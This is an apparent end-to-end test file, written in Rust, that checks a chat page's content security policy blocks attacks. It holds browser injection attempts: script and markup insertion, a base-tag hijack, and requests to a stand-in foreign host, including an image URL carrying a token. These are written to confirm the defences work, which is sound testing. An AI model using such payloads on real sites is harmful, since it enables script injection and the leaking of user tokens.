//! The content security policy of the page.

use browser::{Screen, Window};
use e2e::Server;
use serde_json::json;

#[tokio::test]
async fn a_script_from_elsewhere_markup_and_a_foreign_address_are_refused() {
    let server = Server::start().await;
    let ann = server.user("ann").await;
    let window = Window::of(&ann, Screen::DESKTOP).await;
    let attempts = "const done = arguments[arguments.length - 1];
        const refused = new Set();
        document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
        const attempts = [
            () => { document.body.append(Object.assign(document.createElement('script'), { text: 'owned()' })); },
            () => { document.body.innerHTML = '<b>owned</b>'; },
            () => { document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.invalid/?token' })); },
            () => { fetch('https://elsewhere.invalid/').catch(() => undefined); },
            () => { new WebSocket('wss://elsewhere.invalid/'); },
            () => {
                const base = Object.assign(document.createElement('base'), { href: 'https://elsewhere.invalid/' });
                document.body.append(base);
            },
        ];
        const errors = attempts.filter((attempt) => { try { attempt(); return false; } catch { return true; } }).length;
        setTimeout(() => done([errors, [...refused].sort()]), 500)";
    let refused = window.tries(attempts).await;
    // The first two throw, because text cannot become a script or markup.
    let directives = ["base-uri", "connect-src", "img-src", "require-trusted-types-for"];
    assert_eq!(refused, json!([2, directives]));
    window.sees_title("Chat").await;
}

#[tokio::test]
async fn nothing_on_the_way_through_the_page_is_refused_or_fails() {
    let server = Server::start().await;
    let [ann, bob] = server.users(["ann", "bob"]).await;
    ann.creates_group("Garden", &[&bob]).await;
    let window = Window::of(&ann, Screen::DESKTOP).await;
    window.opens_room("Garden").await;
    window.sends("hello").await;
    window.sees_states(&["Sent"]).await;
    window.clicks("Members and details").await;
    window.clicks("Close").await;
    window.clicks("Log out").await;
    window.sees("You have logged out.").await;
    assert_eq!(window.console().await, Vec::<String>::new());
}
